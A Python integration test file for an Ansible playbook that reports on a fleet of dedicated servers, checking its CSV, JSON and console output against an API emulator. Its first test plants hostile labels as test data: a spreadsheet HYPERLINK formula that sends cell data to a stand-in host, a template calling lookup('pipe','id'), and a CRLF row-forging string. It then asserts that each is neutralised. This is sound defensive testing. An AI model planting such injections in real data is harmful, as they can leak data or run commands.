# -*- coding: utf-8 -*-
# Copyright (c) leaseweb.dedicated contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The fleet report, ``ansible-playbook leaseweb.dedicated.report``, run against the emulator.

Each run's CSV and JSON files are compared with the emulator's state, read directly from its API
after the run (the request log is taken first), and the requests the run sent are asserted: reads
only, one task's worth. The emulator's clock is stopped so that a running job's progress reads
the same to the playbook and to the test.
"""

import collections
import csv
import json
import subprocess

import yaml

from tests.integration.test_targets import ansible_command, ansible_env

API = '/bareMetals/v2'


def run_report(emulator, cwd, *args):
    """``ansible-playbook leaseweb.dedicated.report ARGS`` in ``cwd``, the key in the environment."""
    command = [ansible_command('ansible-playbook'), 'leaseweb.dedicated.report'] + list(args)
    return subprocess.run(
        command,
        cwd=str(cwd),
        env=ansible_env(emulator, LEASEWEB_API_KEY=emulator.api_key),
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        timeout=300,
        check=False,
    )


def get(emulator, path, **query):
    response = emulator.api('GET', path, params=query or None)
    assert response.status_code == 200, (path, response.text)
    return response.json()


def newest(jobs):
    return max(jobs, key=lambda job: job['createdAt']) if jobs else None


def expected(emulator, server_id):
    """What the report holds of a server, from the API's raw answers: (CSV row, JSON entry)."""
    record = get(emulator, '/servers/%s' % server_id)
    public = record['networkInterfaces'].get('public')
    power = get(emulator, '/servers/%s/powerInfo' % server_id)
    running = newest(get(emulator, '/servers/%s/jobs' % server_id, isRunning='true')['jobs'])
    install = newest(get(emulator, '/servers/%s/jobs' % server_id, type='install')['jobs'])
    powered_on = 'off' not in (power['ipmi']['status'], power['pdu']['status'])
    row = dict(
        id=server_id,
        reference=record['contract'].get('reference') or '',
        site=record['location']['site'],
        rack=record['location']['rack'],
        public_ip=public['ip'].split('/')[0],
        power='on' if powered_on else 'off',
        null_routed='true' if public['nullRouted'] else 'false',
        job_type=running['type'] if running else '',
        job_status=running['status'] if running else '',
        job_progress=str(running['progress']['percentage']) if running else '',
        operating_system=install['payload']['operatingSystemId'] if install else '',
        install_status=install['status'] if install else '',
    )
    entry = dict(
        id=server_id,
        asset_id=record['assetId'],
        reference=record['contract'].get('reference'),
        site=record['location']['site'],
        rack=record['location']['rack'],
        public_ip=public['ip'].split('/')[0],
        null_routed=public['nullRouted'],
        powered_on=powered_on,
        power=power,
        running_job=running
        and dict(
            type=running['type'],
            uuid=running['uuid'],
            status=running['status'],
            progress=running['progress'],
            created_at=running['createdAt'],
            updated_at=running['updatedAt'],
        ),
        last_install=install
        and dict(
            operating_system_id=install['payload']['operatingSystemId'],
            operating_system_name=install['payload']['os']['name'],
            uuid=install['uuid'],
            status=install['status'],
            created_at=install['createdAt'],
            updated_at=install['updatedAt'],
        ),
    )
    return row, entry


def read_csv(path):
    with open(str(path), newline='') as handle:
        return list(csv.DictReader(handle))


def calls(log):
    return collections.Counter(
        '%s %s%s'
        % (
            r['method'],
            r['path'][len(API) :],
            '?' + '&'.join('%s=%s' % (k, r['query'][k]) for k in sorted(r['query'])) if r.get('query') else '',
        )
        for r in log
    )


def per_server(server_id, record=False):
    reads = [
        'GET /servers/%s/powerInfo' % server_id,
        'GET /servers/%s/jobs?isRunning=true&limit=50&offset=0' % server_id,
        'GET /servers/%s/jobs?limit=50&offset=0&type=install' % server_id,
    ]
    return (['GET /servers/%s' % server_id] if record else []) + reads


def test_the_whole_fleet_as_a_table_csv_and_json_reading_only(emulator, tmp_path):
    emulator.clock(mode='manual')
    ids = [server['id'] for server in get(emulator, '/servers', limit=100)['servers']]
    nulled, off, installing, labelled, formula, forged = ids[1], ids[2], ids[3], ids[4], ids[5], ids[6]
    nulled_ip = get(emulator, '/servers/%s' % nulled)['networkInterfaces']['public']['ip'].split('/')[0]
    assert emulator.api('POST', '/servers/%s/ips/%s/null' % (nulled, nulled_ip)).status_code == 202
    assert emulator.api('POST', '/servers/%s/powerOff' % off).status_code == 204
    assert (
        emulator.api(
            'POST', '/servers/%s/install' % installing, json={'operatingSystemId': 'DEBIAN_12_64BIT'}
        ).status_code
        == 202
    )
    # a label with a comma, quotes and a template: data, written as it is
    label = "web, \"edge\" {{ lookup('pipe', 'id') }}"
    assert emulator.api('PUT', '/servers/%s' % labelled, json={'reference': label}).status_code == 204
    # hostile labels: a formula a spreadsheet would run, and a line break that would forge a row of the table
    hyperlink = '=HYPERLINK("http://x.example/"&A1,"click")'
    crlf = 'edge\r\n99999  forged-row'
    for server_id, reference in ((formula, hyperlink), (forged, crlf)):
        assert emulator.api('PUT', '/servers/%s' % server_id, json={'reference': reference}).status_code == 204
    emulator.clock(advance=1)
    emulator.clear()

    result = run_report(emulator, tmp_path)
    log = emulator.take()
    assert result.returncode == 0, result.stdout[-20000:]

    # one list page and three reads per server, nothing written
    assert calls(log) == collections.Counter(
        ['GET /servers?limit=100&offset=0'] + [c for i in ids for c in per_server(i)]
    )
    assert [r for r in log if r['method'] != 'GET'] == []

    wanted = [expected(emulator, server_id) for server_id in sorted(ids, key=int)]
    rows = read_csv(tmp_path / 'leaseweb-report.csv')
    # the formula is neutralized (OWASP): a single quote in front makes it text in a spreadsheet
    for row, _entry in wanted:
        if row['id'] == formula:
            row['reference'] = "'" + hyperlink
    assert rows == [row for row, _entry in wanted]
    text = (tmp_path / 'leaseweb-report.csv').read_text()
    assert '"\'=HYPERLINK(""http://x.example/""&A1,""click"")"' in text and ',=HYPERLINK' not in text
    document = json.loads((tmp_path / 'leaseweb-report.json').read_text())
    assert document == {'servers': [entry for _row, entry in wanted], 'missing': []}

    by_id = dict((row['id'], row) for row in rows)
    assert by_id[nulled]['null_routed'] == 'true'
    assert by_id[off]['power'] == 'off'
    assert (by_id[installing]['job_type'], by_id[installing]['job_status']) == ('install', 'ACTIVE')
    assert 0 < int(by_id[installing]['job_progress']) < 100
    assert by_id[installing]['operating_system'] == 'DEBIAN_12_64BIT'
    assert by_id[labelled]['reference'] == label
    assert '"web, ""edge"" {{ lookup(\'pipe\', \'id\') }}"' in (tmp_path / 'leaseweb-report.csv').read_text()

    # the table: a header, a line per server, the summary and the files
    out = result.stdout
    assert '"ID     REFERENCE' in out
    assert '"%s  ' % ids[0] in out
    progress = by_id[installing]['job_progress']
    assert 'install %s%%  DEBIAN_12_64BIT (ACTIVE)"' % progress in out
    on = sum(1 for row in rows if row['power'] == 'on')
    assert '"40 servers; %d on, %d off; 1 running a job; 1 null routed"' % (on, 40 - on) in out
    # the line break of a reference is shown escaped, in its row: no row is forged
    assert '"%s  edge\\\\r\\\\n99999  forged-row  ' % forged in out
    assert '"99999  forged-row' not in out
    assert '"CSV file: %s"' % (tmp_path / 'leaseweb-report.csv') in out
    assert 'changed=2' in out


def test_an_inventory_group_narrowed_with_limit_one_task_for_all_its_hosts(emulator, tmp_path):
    inventory = tmp_path / 'fleet.leaseweb.yml'
    inventory.write_text(yaml.safe_dump({'plugin': 'leaseweb.dedicated.servers', 'hostname': ['id']}))
    fleet = get(emulator, '/servers', limit=100)['servers']
    ams = sorted((s['id'] for s in fleet if s['location']['site'] == 'AMS-01'), key=int)
    assert len(ams) > 3
    emulator.clear()
    result = run_report(
        emulator,
        tmp_path,
        '-i',
        str(inventory),
        '-e',
        'target=leaseweb_ams_01',
        '--limit',
        '!' + ams[0],
        '-e',
        'report_csv=',
        '-e',
        'report_json=out/../group.json',
        '-e',
        'report_concurrency=4',
    )
    log = emulator.take()
    assert result.returncode == 0, result.stdout[-20000:]
    reported = ams[1:]
    # the inventory's list page, then the record and three reads per host, in one task
    assert calls(log) == collections.Counter(
        ['GET /servers?limit=100&offset=0'] + [c for i in reported for c in per_server(i, record=True)]
    )
    assert result.stdout.count('TASK [Read the servers, concurrently, in one task]') == 1
    document = json.loads((tmp_path / 'group.json').read_text())
    # the hosts in inventory order (by id here)
    assert document == {'servers': [expected(emulator, i)[1] for i in reported], 'missing': []}
    assert not (tmp_path / 'leaseweb-report.csv').exists()
    assert 'skipping: [%s]' % reported[0] in result.stdout  # the CSV task


def test_check_mode_shows_the_table_and_writes_no_file(emulator, tmp_path):
    result = run_report(
        emulator, tmp_path, '--check', '-e', 'report_server_ids=12345,99999,', '-e', 'report_include=power'
    )
    log = emulator.take()
    assert result.returncode == 0, result.stdout[-20000:]
    assert calls(log) == collections.Counter(
        ['GET /servers/12345', 'GET /servers/12345/powerInfo', 'GET /servers/99999', 'GET /servers/99999/powerInfo']
    )
    assert '"1 server; 1 on, 0 off; 0 null routed; not found (HTTP 404): 99999"' in result.stdout
    assert '(not written in check mode)' in result.stdout
    assert list(tmp_path.iterdir()) == []


def test_servers_chosen_two_ways_fail_before_any_request(emulator, tmp_path):
    result = run_report(emulator, tmp_path, '-e', 'report_server_ids=12345', '-e', 'report_site=AMS-01')
    assert result.returncode != 0
    assert (
        'Choose the servers one way: target (hosts of the inventory), report_server_ids, or the filters of the '
        "API's server list (report_site)"
    ) in ' '.join(result.stdout.split())
    assert emulator.take() == []
    assert list(tmp_path.iterdir()) == []
